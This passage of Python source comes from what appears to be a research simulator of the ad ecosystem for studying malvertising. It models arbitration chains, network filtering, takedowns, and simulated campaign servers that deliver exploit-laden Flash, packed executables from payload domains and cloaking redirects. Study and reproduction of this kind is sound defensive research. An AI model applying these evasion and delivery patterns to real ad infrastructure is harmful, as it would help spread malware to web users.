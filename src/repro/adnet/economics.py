"""Advertising economics: impressions, clicks, and arbitration margins.

The paper's framing is economic throughout: publishers are paid per
impression or per click (§1), ad networks run arbitration *to increase
their revenue* (§4.3), and universal ad blocking would cause "a domino
effect in the Internet's economy" (§5.2).  This module prices the simulated
traffic so those statements can be quantified:

* every served impression clears at the winning campaign's bid (CPM);
* every hop of an arbitration chain takes a fixed revenue share, so deep
  chains clear at steeply discounted effective CPMs — the economic reason
  the deep tail is remnant inventory;
* clicks clear at a CPC multiple, which the click-fraud module builds on.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable, Optional

from repro.adnet.ecosystem import ServedImpression

# Revenue share each reselling network keeps per arbitration hop.
DEFAULT_HOP_MARGIN = 0.15

# Click-through pricing: CPC as a multiple of the CPM-per-impression price.
DEFAULT_CPC_MULTIPLE = 40.0


@dataclass
class ImpressionReceipt:
    """The money flow of one served impression."""

    imp_id: str
    publisher_domain: str
    gross_cpm: float            # what the advertiser paid (per 1000, scaled to 1)
    publisher_revenue: float    # what reaches the publisher after margins
    network_cuts: dict[str, float]  # network id -> its cut

    @property
    def total_network_cut(self) -> float:
        return sum(self.network_cuts.values())


class AdMarket:
    """Prices served impressions and aggregates revenue.

    Margins compound along the arbitration chain: with ``hop_margin`` m and
    a chain of k networks, the publisher receives ``gross * (1 - m)^k``.
    """

    def __init__(self, hop_margin: float = DEFAULT_HOP_MARGIN,
                 cpc_multiple: float = DEFAULT_CPC_MULTIPLE) -> None:
        if not 0.0 <= hop_margin < 1.0:
            raise ValueError("hop_margin must be in [0, 1)")
        self.hop_margin = hop_margin
        self.cpc_multiple = cpc_multiple

    def price_impression(self, served: ServedImpression, bid: float) -> ImpressionReceipt:
        """Compute the receipt for one served impression."""
        remaining = bid
        cuts: dict[str, float] = {}
        for network_id in served.chain:
            cut = remaining * self.hop_margin
            cuts[network_id] = cuts.get(network_id, 0.0) + cut
            remaining -= cut
        return ImpressionReceipt(
            imp_id=served.imp_id,
            publisher_domain=served.publisher_domain,
            gross_cpm=bid,
            publisher_revenue=remaining,
            network_cuts=cuts,
        )

    def effective_cpm(self, bid: float, chain_length: int) -> float:
        """Publisher-side CPM after ``chain_length`` compounding margins."""
        return bid * (1.0 - self.hop_margin) ** chain_length

    def click_price(self, bid: float) -> float:
        """What one click on an impression priced at ``bid`` clears at."""
        return bid * self.cpc_multiple / 1000.0


@dataclass
class MarketLedger:
    """Aggregated revenue across a run."""

    publisher_revenue: dict[str, float] = field(default_factory=dict)
    network_revenue: dict[str, float] = field(default_factory=dict)
    gross_spend: float = 0.0
    impressions_priced: int = 0

    def record(self, receipt: ImpressionReceipt) -> None:
        self.gross_spend += receipt.gross_cpm
        self.impressions_priced += 1
        self.publisher_revenue[receipt.publisher_domain] = (
            self.publisher_revenue.get(receipt.publisher_domain, 0.0)
            + receipt.publisher_revenue
        )
        for network_id, cut in receipt.network_cuts.items():
            self.network_revenue[network_id] = (
                self.network_revenue.get(network_id, 0.0) + cut
            )

    @property
    def total_publisher_revenue(self) -> float:
        return sum(self.publisher_revenue.values())

    @property
    def total_network_revenue(self) -> float:
        return sum(self.network_revenue.values())


def settle_run(served_log: Iterable[ServedImpression],
               bids_by_campaign: dict[str, float],
               market: Optional[AdMarket] = None) -> MarketLedger:
    """Settle an entire run's served impressions into a ledger.

    ``bids_by_campaign`` maps campaign ids to their CPM bids (house ads and
    unknown campaigns default to a floor price).
    """
    market = market or AdMarket()
    ledger = MarketLedger()
    for served in served_log:
        bid = bids_by_campaign.get(served.campaign_id, 0.25)
        ledger.record(market.price_impression(served, bid))
    return ledger
