"""HTTP wiring of the ad ecosystem.

:class:`Ecosystem` mounts real (simulated) web servers for every party:

* **Publisher sites** serve pages whose ad slots are iframes pointing at
  the publisher's primary network (plus occasional non-ad iframes, so the
  crawler's EasyList classification has something to reject).
* **Network ad servers** implement ``/adserve``: each request either serves
  a creative (HTTP 200 with the winning campaign's markup) or resells the
  slot (HTTP 302 to a partner's ``/adserve`` with ``hop`` incremented) —
  so arbitration chains are observable as redirect chains, exactly the
  signal the paper mined from its captured traffic.
* **Campaign infrastructure** serves creative assets, weaponised Flash,
  executable payloads, cloaking redirectors and landing pages.

A ground-truth log of what was served is kept for evaluation/tests; the
measurement pipeline itself never reads it.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional

import hashlib

from repro.adnet.arbitration import ArbitrationPolicy
from repro.adnet.creatives import render_creative
from repro.adnet.entities import AdNetwork, Advertiser, Campaign, CampaignKind, Publisher
from repro.malware.packer import pack_executable
from repro.malware.samples import build_executable, build_flash
from repro.util.rand import fork
from repro.web.dns import DnsResolver
from repro.web.http import HttpClient, HttpRequest, HttpResponse, WebServer

# Benign high-profile destinations cloaking redirectors bounce to.
BENIGN_SEARCH_DOMAINS = ("google.com", "bing.com")

# Fraction of publisher pages that embed a non-ad iframe (widgets, embeds).
WIDGET_DOMAIN = "widgets-embed.com"

PNG_BYTES = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32


def _query_params(request: HttpRequest) -> dict[str, str]:
    params: dict[str, str] = {}
    for pair in request.url.query.split("&"):
        if "=" in pair:
            key, value = pair.split("=", 1)
            params[key] = value
    return params


@dataclass
class ServedImpression:
    """Ground-truth record of one served ad impression."""

    imp_id: str
    publisher_domain: str
    slot: int
    chain: list[str]  # network ids in arbitration order
    campaign_id: str
    kind: str
    variant: int

    @property
    def chain_length(self) -> int:
        return len(self.chain)


class Ecosystem:
    """The running ad ecosystem: entities + mounted servers + ground truth."""

    def __init__(
        self,
        resolver: DnsResolver,
        client: HttpClient,
        networks: list[AdNetwork],
        campaigns: list[Campaign],
        publishers: list[Publisher],
        seed: int,
        policy: Optional[ArbitrationPolicy] = None,
        top_cluster_rank: int = 10_000,
    ) -> None:
        self.resolver = resolver
        self.client = client
        self.networks = networks
        self.campaigns = campaigns
        self.publishers = publishers
        self.seed = seed
        self.policy = policy or ArbitrationPolicy()
        self.top_cluster_rank = top_cluster_rank
        self.served_log: list[ServedImpression] = []
        self._networks_by_id = {n.network_id: n for n in networks}
        self._publishers_by_domain = {p.domain: p for p in publishers}
        self._pending_chains: dict[str, list[str]] = {}
        self._imp_counter = 0
        self._registered = False

    # -- world registration ----------------------------------------------------

    def register_all(self) -> None:
        """Register DNS and mount servers for every entity.  Idempotent."""
        if self._registered:
            return
        self._registered = True
        for domain in BENIGN_SEARCH_DOMAINS:
            self.resolver.register(domain)
            self.client.mount(domain, self._benign_site_server(domain))
        self.resolver.register(WIDGET_DOMAIN)
        self.client.mount(WIDGET_DOMAIN, self._widget_server())
        for network in self.networks:
            self.resolver.register(network.domain)
            self.client.mount(network.domain, self._network_server(network))
        for campaign in self.campaigns:
            for domain in campaign.domains:
                if not self.resolver.exists(domain):
                    self.resolver.register(domain)
                    self.client.mount(domain, self._campaign_server_for_domain(domain))
        for publisher in self.publishers:
            self.resolver.register(publisher.domain)
            self.client.mount(publisher.domain, self._publisher_server(publisher))

    @property
    def ad_serving_domains(self) -> list[str]:
        """Domains EasyList-style lists would carry rules for."""
        return sorted(n.domain for n in self.networks)

    def network_for_domain(self, domain: str) -> Optional[AdNetwork]:
        """Public domain→network mapping (ad companies are public entities)."""
        for network in self.networks:
            if domain == network.domain or domain.endswith("." + network.domain):
                return network
        return None

    # -- publisher pages ----------------------------------------------------------

    def _publisher_server(self, publisher: Publisher) -> WebServer:
        server = WebServer()
        server.route("/", lambda req: self._publisher_page(publisher))
        server.route("/article/*", lambda req: self._publisher_page(publisher))
        return server

    def _publisher_page(self, publisher: Publisher) -> HttpResponse:
        parts = [
            "<html><head><title>", publisher.domain, "</title></head><body>",
            f"<h1>{publisher.domain}</h1>",
            f'<div class="content" data-category="{publisher.category}">'
            "<p>Regular page content goes here.</p></div>",
        ]
        sandbox = ' sandbox=""' if publisher.uses_sandbox else ""
        if publisher.serves_ads:
            network = publisher.primary_network
            for slot in range(publisher.n_slots):
                imp_id = self._mint_impression()
                src = (
                    f"http://{network.serve_host}/adserve"
                    f"?pub={publisher.domain}&slot={slot}&imp={imp_id}&hop=0"
                )
                parts.append(
                    f'<iframe id="ad-slot-{slot}" width="300" height="250" '
                    f'src="{src}"{sandbox}></iframe>'
                )
        # A deterministic third of publishers embed a benign widget iframe,
        # which the EasyList classifier must *not* count as an ad.
        if publisher.rank % 3 == 0:
            parts.append(
                f'<iframe id="widget" src="http://{WIDGET_DOMAIN}/embed/weather"></iframe>'
            )
        parts.append("</body></html>")
        return HttpResponse.html("".join(parts))

    def _mint_impression(self) -> str:
        self._imp_counter += 1
        return f"imp{self._imp_counter:08d}"

    def seed_request_counter(self, value: int) -> None:
        """Pin the per-request counter that cloaking rotation draws from.

        Cloaking redirectors rotate per request (see
        :meth:`_serve_cloaking_redirect`), which makes a scan's outcome
        depend on how much traffic preceded it.  Two consumers pin it:

        * the scanning service (``hermetic_judge``) pins it to a value
          derived from the creative being scanned, so a verdict is a pure
          function of (seed, creative) regardless of scan order or worker
          count;
        * the hermetic crawler (``hermetic_visit_pinner``) pins it before
          every page visit to a disjoint per-visit range, so a sharded
          parallel crawl reproduces the serial corpus bit-for-bit.
        """
        self._imp_counter = int(value)

    # -- ad network servers ---------------------------------------------------------

    def _network_server(self, network: AdNetwork) -> WebServer:
        server = WebServer()
        server.route("/adserve", lambda req: self._handle_adserve(network, req))
        server.route("/adserve/*", lambda req: self._handle_adserve(network, req))
        server.route("/adimg/*", lambda req: HttpResponse.binary(PNG_BYTES, "image/png"))
        return server

    def _handle_adserve(self, network: AdNetwork, request: HttpRequest) -> HttpResponse:
        params = _query_params(request)
        imp_id = params.get("imp", "imp-unknown")
        pub_domain = params.get("pub", "")
        slot = int(params.get("slot", "0") or 0)
        try:
            hop = int(params.get("hop", "0"))
        except ValueError:
            hop = 0
        chain = self._pending_chains.setdefault(imp_id, [])
        chain.append(network.network_id)

        rand = fork(self.seed, f"arb:{imp_id}:{hop}:{network.network_id}")
        publisher = self._publishers_by_domain.get(pub_domain)
        top_site = publisher is not None and publisher.rank <= self.top_cluster_rank

        tracking_uid = request.header("cookie")
        if network.inventory and not self.policy.wants_resale(network, hop, rand):
            campaign = self.policy.pick_campaign(network, rand,
                                                 top_cluster_site=top_site, hop=hop)
            if campaign is not None:
                response = self._serve_creative(network, campaign, imp_id,
                                                pub_domain, slot, rand)
                self._attach_tracking_cookie(response, network, tracking_uid, imp_id)
                return response
        partner = self.policy.pick_partner(network, rand)
        if partner is None or hop >= self.policy.max_hops:
            # Nobody to resell to: serve a house ad.
            house = Campaign(
                campaign_id=f"house-{network.network_id}",
                advertiser=Advertiser("adv-house", f"{network.name} house"),
                kind=CampaignKind.BENIGN,
                landing_domain=network.domain, serving_domain=network.domain,
            )
            return self._serve_creative(network, house, imp_id, pub_domain, slot, rand)
        location = (
            f"http://{partner.serve_host}/adserve"
            f"?pub={pub_domain}&slot={slot}&imp={imp_id}&hop={hop + 1}"
        )
        response = HttpResponse.redirect(location)
        self._attach_tracking_cookie(response, network, tracking_uid, imp_id)
        return response

    def _attach_tracking_cookie(self, response: HttpResponse, network: AdNetwork,
                                cookie_header: str, imp_id: str) -> None:
        """Set the network's third-party ``uid`` cookie if not yet present."""
        if f"uid_{network.network_id}=" in cookie_header:
            return
        uid = hashlib.sha256(f"{network.network_id}:{imp_id}".encode("utf-8")).hexdigest()[:16]
        response.headers["set-cookie"] = (
            f"uid_{network.network_id}={uid}; Domain={network.domain}; Path=/"
        )

    def _serve_creative(self, network: AdNetwork, campaign: Campaign, imp_id: str,
                        pub_domain: str, slot: int, rand) -> HttpResponse:
        variant = rand.randrange(max(1, campaign.n_variants))
        chain = self._pending_chains.pop(imp_id, [network.network_id])
        self.served_log.append(
            ServedImpression(imp_id, pub_domain, slot, chain,
                             campaign.campaign_id, campaign.kind, variant)
        )
        return HttpResponse.html(render_creative(campaign, variant))

    # -- campaign infrastructure ---------------------------------------------------

    def _campaign_server_for_domain(self, domain: str) -> WebServer:
        server = WebServer()
        server.route("/adimg/*", lambda req: HttpResponse.binary(PNG_BYTES, "image/png"))
        server.route("/offer", lambda req: HttpResponse.html(
            "<html><body><h1>Landing page</h1></body></html>"))
        server.route("/offer/*", lambda req: HttpResponse.html(
            "<html><body><h1>Landing page</h1></body></html>"))
        server.route("/adswf/*", lambda req: self._serve_flash(req))
        server.route("/download/*", lambda req: self._serve_executable(req))
        server.route("/drop/*", lambda req: self._serve_executable(req))
        server.route("/go/*", lambda req: self._serve_cloaking_redirect(req))
        server.set_fallback(lambda req: HttpResponse.html(
            "<html><body>ok</body></html>"))
        return server

    def _campaign_by_id(self, campaign_id: str) -> Optional[Campaign]:
        for campaign in self.campaigns:
            if campaign.campaign_id == campaign_id:
                return campaign
        return None

    def _serve_flash(self, request: HttpRequest) -> HttpResponse:
        # Path: /adswf/<campaign_id>-<variant>.swf
        name = request.url.path.rsplit("/", 1)[-1].rsplit(".", 1)[0]
        campaign_id = name.rsplit("-", 1)[0]
        campaign = self._campaign_by_id(campaign_id)
        if campaign is None:
            return HttpResponse.not_found()
        if campaign.exploit_cve:
            payload_url = None
            if campaign.payload_domain:
                payload_url = f"http://{campaign.payload_domain}/drop/{campaign.campaign_id}.exe"
            data = build_flash(name, exploit_cve=campaign.exploit_cve,
                               payload_url=payload_url)
        else:
            data = build_flash(name)
        return HttpResponse.binary(data, "application/x-shockwave-flash")

    def _serve_executable(self, request: HttpRequest) -> HttpResponse:
        host = request.url.host
        campaign = None
        for candidate in self.campaigns:
            if candidate.payload_domain and (
                host == candidate.payload_domain
                or host.endswith("." + candidate.payload_domain)
            ):
                campaign = candidate
                break
        family = campaign.malware_family if campaign and campaign.malware_family else ""
        sample_id = request.url.path
        data = build_executable(family, sample_id)
        # Half of the campaigns ship packed builds, so AV coverage varies.
        if campaign is not None and \
                hashlib.sha256(campaign.campaign_id.encode("utf-8")).digest()[0] % 2 == 0:
            data = pack_executable(data)
        return HttpResponse.binary(data, "application/x-msdownload")

    def _serve_cloaking_redirect(self, request: HttpRequest) -> HttpResponse:
        # Path: /go/<campaign_id>?v=<variant>; behaviour rotates per request
        # the way real traffic-distribution systems cloak.
        campaign_id = request.url.path.rsplit("/", 1)[-1]
        params = _query_params(request)
        self._imp_counter += 1
        rand = fork(self.seed, f"cloak:{campaign_id}:{params.get('v', '0')}:{self._imp_counter}")
        roll = rand.random()
        if roll < 0.40:
            search = BENIGN_SEARCH_DOMAINS[rand.randrange(len(BENIGN_SEARCH_DOMAINS))]
            return HttpResponse.redirect(f"http://www.{search}/")
        if roll < 0.70:
            # Burned infrastructure: the next hop's domain no longer resolves.
            return HttpResponse.redirect(
                f"http://tds{rand.randrange(100)}.{campaign_id}-expired.com/in")
        campaign = self._campaign_by_id(campaign_id)
        landing = campaign.landing_domain if campaign else "unknown.example"
        return HttpResponse.redirect(f"http://{landing}/offer?c={campaign_id}")

    # -- misc sites -------------------------------------------------------------------

    def _benign_site_server(self, domain: str) -> WebServer:
        server = WebServer()
        server.set_fallback(lambda req: HttpResponse.html(
            f"<html><head><title>{domain}</title></head>"
            f"<body><h1>{domain}</h1><p>search</p></body></html>"))
        return server

    def _widget_server(self) -> WebServer:
        server = WebServer()
        server.set_fallback(lambda req: HttpResponse.html(
            "<html><body><div class='widget'>Weather: sunny, 23C</div></body></html>"))
        return server
