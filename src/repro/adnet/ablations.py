"""World-level ablations for the design choices DESIGN.md calls out.

Each function mutates a freshly built world before a study runs, isolating
one mechanism:

* :func:`apply_uniform_filtering` — what if every network screened like the
  majors do?  (Tests how much of the problem is just bad filters, the
  paper's §4.2 reading.)
* :func:`forbid_resale` — what if arbitration did not exist?  (Tests how
  much reach malvertising *gains* from resale, the paper's §4.3 reading.)
"""

from __future__ import annotations

from repro.adnet.filtering import build_inventories
from repro.datasets.world import World


def apply_uniform_filtering(world: World, quality: float = 0.99) -> int:
    """Give every network the same (high) filter quality and re-screen.

    Returns the number of malicious campaigns that still survive somewhere
    (evasive archetypes are hard to catch even for good filters).
    """
    if not 0.0 <= quality <= 1.0:
        raise ValueError("quality must be within [0, 1]")
    for network in world.networks:
        network.filter_quality = quality
    build_inventories(world.networks, world.campaigns)
    surviving = {
        campaign.campaign_id
        for network in world.networks
        for campaign in network.malicious_inventory()
    }
    return len(surviving)


def forbid_resale(world: World) -> None:
    """Disable arbitration entirely: every network serves what it has.

    Publishers then only ever receive ads from their primary network's own
    inventory — the "exclusive agreement" scenario the paper contrasts
    against.
    """
    for network in world.networks:
        network.resale_propensity = 0.0
        network.partners = []
        network.partner_weights = []
