"""Ad-ecosystem simulator.

This package models the entities and mechanisms of the 2014 web advertising
ecosystem the paper measured: advertisers run *campaigns* (benign and six
malicious archetypes), *ad networks* of varying size and filtering quality
accept campaigns into their inventory, *publishers* dedicate iframe slots to
a primary network, and ad requests flow through *arbitration* — networks
reselling slots to partner networks — before a creative is finally served.

Everything is exposed to the measurement pipeline only through real HTTP:
the ad servers respond with redirects (arbitration hops) and HTML/script
creatives, so the crawler and the oracles must rediscover the ecosystem's
structure exactly as the paper's pipeline did.
"""

from repro.adnet.entities import (
    AdNetwork,
    Advertiser,
    Campaign,
    CampaignKind,
    NetworkTier,
    Publisher,
)
from repro.adnet.arbitration import ArbitrationPolicy
from repro.adnet.filtering import screen_campaign
from repro.adnet.ecosystem import Ecosystem

__all__ = [
    "AdNetwork",
    "Advertiser",
    "ArbitrationPolicy",
    "Campaign",
    "CampaignKind",
    "Ecosystem",
    "NetworkTier",
    "Publisher",
    "screen_campaign",
]
