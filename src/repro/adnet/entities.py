"""Ad ecosystem entities."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional


class CampaignKind:
    """Campaign archetypes.

    The malicious kinds map onto the paper's Table 1 detection buckets (see
    DESIGN.md): ``SCAM`` ads are hosted on blacklisted infrastructure;
    ``CLOAK_REDIRECT`` ads hijack/redirect through throwaway domains;
    ``DRIVEBY`` ads exploit plugins; ``DECEPTIVE`` ads bait the user into
    downloading a trojan "update"; ``FLASH_MALWARE`` ads are weaponised
    Flash creatives; ``EVASIVE`` ads avoid overt behaviour and are only
    caught by the behavioural model.
    """

    BENIGN = "benign"
    SCAM = "scam"
    CLOAK_REDIRECT = "cloak_redirect"
    DRIVEBY = "driveby"
    DECEPTIVE = "deceptive"
    FLASH_MALWARE = "flash_malware"
    EVASIVE = "evasive"

    MALICIOUS = (SCAM, CLOAK_REDIRECT, DRIVEBY, DECEPTIVE, FLASH_MALWARE, EVASIVE)
    ALL = (BENIGN,) + MALICIOUS

    @classmethod
    def is_malicious(cls, kind: str) -> bool:
        return kind in cls.MALICIOUS


class NetworkTier:
    """Ad network size classes with different filtering discipline."""

    MAJOR = "major"
    MID = "mid"
    SHADY = "shady"
    ALL = (MAJOR, MID, SHADY)


@dataclass
class Advertiser:
    """A party that wants creatives displayed."""

    advertiser_id: str
    name: str


@dataclass
class Campaign:
    """One advertising campaign.

    ``domains`` lists the infrastructure the campaign uses (landing page,
    CDN, exploit server, payload host); the world registers servers for
    them.  ``n_variants`` controls how many distinct creatives the campaign
    rotates (unique ads in the corpus).  ``bid`` is the CPM-equivalent used
    to weight auctions.
    """

    campaign_id: str
    advertiser: Advertiser
    kind: str
    landing_domain: str
    serving_domain: str
    payload_domain: Optional[str] = None
    bid: float = 1.0
    n_variants: int = 1
    malware_family: Optional[str] = None
    exploit_cve: Optional[str] = None

    @property
    def is_malicious(self) -> bool:
        return CampaignKind.is_malicious(self.kind)

    @property
    def domains(self) -> list[str]:
        out = [self.landing_domain, self.serving_domain]
        if self.payload_domain:
            out.append(self.payload_domain)
        return sorted(set(out))


@dataclass
class AdNetwork:
    """An ad network / exchange.

    ``market_share`` weights how often publishers sign with the network and
    how often partners resell to it.  ``filter_quality`` is the probability
    the network's screening rejects a malicious campaign at submission time.
    ``resale_propensity`` is the per-request probability the network
    arbitrates the slot onward instead of serving.
    """

    network_id: str
    name: str
    tier: str
    domain: str
    market_share: float
    filter_quality: float
    resale_propensity: float
    inventory: list[Campaign] = field(default_factory=list)
    partners: list["AdNetwork"] = field(default_factory=list)
    partner_weights: list[float] = field(default_factory=list)

    @property
    def serve_host(self) -> str:
        return f"srv.{self.domain}"

    def accepted(self, campaign: Campaign) -> bool:
        return campaign in self.inventory

    def malicious_inventory(self) -> list[Campaign]:
        return [c for c in self.inventory if c.is_malicious]

    def __repr__(self) -> str:
        return f"AdNetwork({self.name}, {self.tier}, inv={len(self.inventory)})"


@dataclass
class Publisher:
    """A website that displays advertisements."""

    domain: str
    rank: int              # Alexa-like global rank
    category: str
    n_slots: int           # ad slots per page (0 = serves no ads)
    primary_network: Optional[AdNetwork] = None
    uses_sandbox: bool = False  # HTML5 iframe sandbox attribute (§4.4)

    @property
    def tld(self) -> str:
        return self.domain.rsplit(".", 1)[-1]

    @property
    def serves_ads(self) -> bool:
        return self.n_slots > 0 and self.primary_network is not None

    @property
    def url(self) -> str:
        return f"http://www.{self.domain}/"
