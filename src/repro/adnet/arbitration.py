"""Ad arbitration: serve-or-resell decisions.

During arbitration (§4.3 of the paper) a network buys an impression from a
publisher as if it were an advertiser, then auctions it onward as if it
were a publisher.  Each hop is one auction; the chain ends when some
network serves a creative.  The paper observed benign chains up to ~15
hops with a decreasing distribution, malicious chains up to ~30 with a
mid-chain bump, late hops dominated by shady networks, and the same
networks repeatedly re-buying the same slot.

The mechanism here produces those shapes *emergently*: majors serve
readily and resell to mid-tier partners; mid-tier networks resell onward
to shadier partners when their own auction fails; shady networks resell
among themselves (with replacement, hence repeat participants) and their
inventories are where malicious campaigns survive screening — so the deep
tail of a chain is both longer and more malicious.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Optional

from repro.adnet.entities import AdNetwork, Campaign, NetworkTier
from repro.util.rand import weighted_choice

MAX_HOPS = 30


@dataclass
class ArbitrationPolicy:
    """Tunable arbitration behaviour (world-level)."""

    # Multiplier applied to malicious campaign bids when the requesting
    # publisher is a top-cluster site (miscreants chase volume, §4.2).
    malicious_top_site_boost: float = 1.25
    # Base probability that a network serves a house ad when its own auction
    # has no inventory at all (never happens in practice; safety valve).
    max_hops: int = MAX_HOPS

    # Past this hop, benign brand demand decays per hop: brand campaigns do
    # not buy deep remnant inventory (brand safety, frequency caps), so the
    # deep tail of a chain is filled by whoever still bids — which, in shady
    # inventories, is the malicious demand.
    remnant_hop: int = 8
    benign_remnant_decay: float = 0.75

    def wants_resale(self, network: AdNetwork, hop: int, rand: random.Random) -> bool:
        """Does ``network`` resell the slot instead of serving?"""
        if hop >= self.max_hops:
            return False
        propensity = network.resale_propensity
        if hop > 20:
            # Very deep chains lose economic value; resale appetite decays.
            propensity *= 0.9
        return rand.random() < propensity

    def pick_partner(self, network: AdNetwork, rand: random.Random) -> Optional[AdNetwork]:
        """Choose the partner network that wins the resale auction.

        Selection is weighted by market share and drawn with replacement
        across hops, so the same partner can buy the same slot repeatedly —
        a behaviour the paper explicitly observed.
        """
        if not network.partners:
            return None
        weights = network.partner_weights or [p.market_share for p in network.partners]
        return weighted_choice(rand, network.partners, weights)

    def pick_campaign(self, network: AdNetwork, rand: random.Random,
                      top_cluster_site: bool = False, hop: int = 0) -> Optional[Campaign]:
        """Run the network's internal auction over its inventory."""
        if not network.inventory:
            return None
        benign_decay = self.benign_remnant_decay ** max(0, hop - self.remnant_hop)
        weights = []
        for campaign in network.inventory:
            weight = campaign.bid
            if campaign.is_malicious:
                if top_cluster_site:
                    weight *= self.malicious_top_site_boost
            else:
                weight = max(weight * benign_decay, 0.01)
            weights.append(weight)
        return weighted_choice(rand, network.inventory, weights)


def default_resale_propensity(tier: str) -> float:
    """Per-tier resale propensities calibrated for the Fig. 5 shapes."""
    return {
        NetworkTier.MAJOR: 0.42,
        NetworkTier.MID: 0.55,
        NetworkTier.SHADY: 0.80,
    }[tier]


def default_partner_tiers(tier: str) -> dict[str, float]:
    """Which tiers a network resells to (weights).

    Chains drift downmarket: majors resell to mid-tier, mid-tier mostly to
    shady, shady among themselves — producing the paper's observation that
    late auctions happen only among malvertising-implicated networks.
    """
    return {
        NetworkTier.MAJOR: {NetworkTier.MAJOR: 0.20, NetworkTier.MID: 0.75, NetworkTier.SHADY: 0.05},
        NetworkTier.MID: {NetworkTier.MAJOR: 0.10, NetworkTier.MID: 0.55, NetworkTier.SHADY: 0.35},
        NetworkTier.SHADY: {NetworkTier.MID: 0.08, NetworkTier.SHADY: 0.92},
    }[tier]
