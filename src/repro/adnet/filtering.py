"""Ad network campaign screening.

Section 4.2 of the paper attributes the variance in per-network malvertising
ratios to the quality of each network's filtering at campaign-acceptance
time: major exchanges screen submissions aggressively, small networks barely
at all.  Screening here is deterministic per (network, campaign) so the same
world always has the same inventories.
"""

from __future__ import annotations

import hashlib

from repro.adnet.entities import AdNetwork, Campaign

# How hard each malicious archetype is to catch at submission time, relative
# to the network's filter quality.  Drive-by and flash exploits carry
# scannable payloads (easier); evasive campaigns are crafted to pass review.
DETECTABILITY = {
    "scam": 0.9,
    "cloak_redirect": 0.8,
    "driveby": 1.0,
    "deceptive": 0.9,
    "flash_malware": 1.0,
    "evasive": 0.25,
}


def _stable_unit(network: AdNetwork, campaign: Campaign) -> float:
    digest = hashlib.sha256(
        f"screen:{network.network_id}:{campaign.campaign_id}".encode("utf-8")
    ).digest()
    return int.from_bytes(digest[:8], "big") / 2**64


# Probability a *benign* advertiser submits its campaign to a network of a
# given tier: reputable brands buy from reputable exchanges; few bother with
# bottom-feeder networks.  Miscreants spray every network they can find.
BENIGN_SUBMISSION_RATE = {
    "major": 0.90,
    "mid": 0.55,
    "shady": 0.18,
}


def submits_campaign(network: AdNetwork, campaign: Campaign) -> bool:
    """Does the advertiser submit ``campaign`` to ``network`` at all?"""
    if campaign.is_malicious:
        return True
    rate = BENIGN_SUBMISSION_RATE[network.tier]
    digest = hashlib.sha256(
        f"submit:{network.network_id}:{campaign.campaign_id}".encode("utf-8")
    ).digest()
    return int.from_bytes(digest[:8], "big") / 2**64 < rate


def screen_campaign(network: AdNetwork, campaign: Campaign) -> bool:
    """Return ``True`` if the network accepts the campaign.

    Benign campaigns always pass review.  A malicious campaign slips
    through when the network's screening (scaled by how detectable the
    archetype is) misses it.
    """
    if not campaign.is_malicious:
        return True
    catch_probability = network.filter_quality * DETECTABILITY.get(campaign.kind, 1.0)
    return _stable_unit(network, campaign) >= catch_probability


def build_inventories(networks: list[AdNetwork], campaigns: list[Campaign]) -> None:
    """Populate every network's inventory: submission, then screening."""
    for network in networks:
        network.inventory = [
            c for c in campaigns
            if submits_campaign(network, c) and screen_campaign(network, c)
        ]
