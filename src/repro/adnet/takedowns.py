"""Takedown dynamics: the arms race behind NX-domain redirects.

The paper's honeyclient kept seeing advertisements redirect into
non-existent domains.  That is what burned malvertising infrastructure
looks like: registrars and hosters take down reported domains, miscreants
rotate to fresh ones, and the blacklists lag the rotation.  This module
implements that loop so longitudinal crawls observe it:

* :class:`TakedownAuthority.process_day` takes down blacklist-flagged
  campaign domains observed in that day's ad traffic (with a reporting
  delay);
* taken-down campaigns *rotate*: fresh domains are registered and wired
  with the same infrastructure;
* blacklists catch up to rotated domains after ``listing_lag_days``.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable, Optional

from repro.adnet.entities import Campaign, CampaignKind
from repro.datasets.world import BLACKLIST_THRESHOLD, Blacklist, World
from repro.oracles.blacklists import BlacklistTracker
from repro.util.rand import fork


@dataclass
class TakedownEvent:
    """One domain removed from the DNS."""

    day: int
    domain: str
    campaign_id: str
    rotated_to: Optional[str] = None


@dataclass
class ListingEvent:
    """A rotated domain catching up onto blacklists."""

    day: int
    domain: str
    n_lists: int


class TakedownAuthority:
    """Processes abuse reports against the simulated DNS.

    Parameters
    ----------
    world:
        The simulated web (mutated in place: DNS, campaigns, blacklists).
    takedown_probability:
        Chance per day that a *flagged, observed* domain actually gets
        taken down (registrar responsiveness).
    rotation_probability:
        Chance the campaign rotates to fresh infrastructure after a
        takedown (vs giving up).
    listing_lag_days:
        How long until blacklists list a rotated domain.
    """

    def __init__(
        self,
        world: World,
        takedown_probability: float = 0.5,
        rotation_probability: float = 0.7,
        listing_lag_days: int = 2,
    ) -> None:
        self.world = world
        self.takedown_probability = takedown_probability
        self.rotation_probability = rotation_probability
        self.listing_lag_days = listing_lag_days
        self.takedowns: list[TakedownEvent] = []
        self.listings: list[ListingEvent] = []
        self._rand = fork(world.seed, "takedowns")
        self._tracker = BlacklistTracker(world.blacklists, BLACKLIST_THRESHOLD)
        self._pending_listings: list[tuple[int, str]] = []  # (due day, domain)
        self._rotation_counter = 0

    # -- per-day processing ------------------------------------------------------

    def process_day(self, day: int, observed_domains: Iterable[str]) -> list[TakedownEvent]:
        """React to one crawl day's observed ad-serving domains."""
        self._apply_due_listings(day)
        events: list[TakedownEvent] = []
        observed = {d.lower() for d in observed_domains}
        for campaign in self.world.campaigns:
            if not campaign.is_malicious:
                continue
            for domain in list(campaign.domains):
                if domain not in observed:
                    continue
                if not self.world.resolver.exists(domain):
                    continue
                if not self._tracker.is_flagged(domain):
                    continue
                if self._rand.random() >= self.takedown_probability:
                    continue
                events.append(self._take_down(day, campaign, domain))
        self.takedowns.extend(events)
        return events

    def _take_down(self, day: int, campaign: Campaign, domain: str) -> TakedownEvent:
        self.world.resolver.deregister(domain)
        event = TakedownEvent(day, domain, campaign.campaign_id)
        if self._rand.random() < self.rotation_probability:
            event.rotated_to = self._rotate(day, campaign, domain)
        return event

    def _rotate(self, day: int, campaign: Campaign, burned: str) -> str:
        """Stand up replacement infrastructure for a burned domain."""
        self._rotation_counter += 1
        label, _, suffix = burned.partition(".")
        fresh = f"{label}-r{self._rotation_counter}.{suffix or 'com'}"
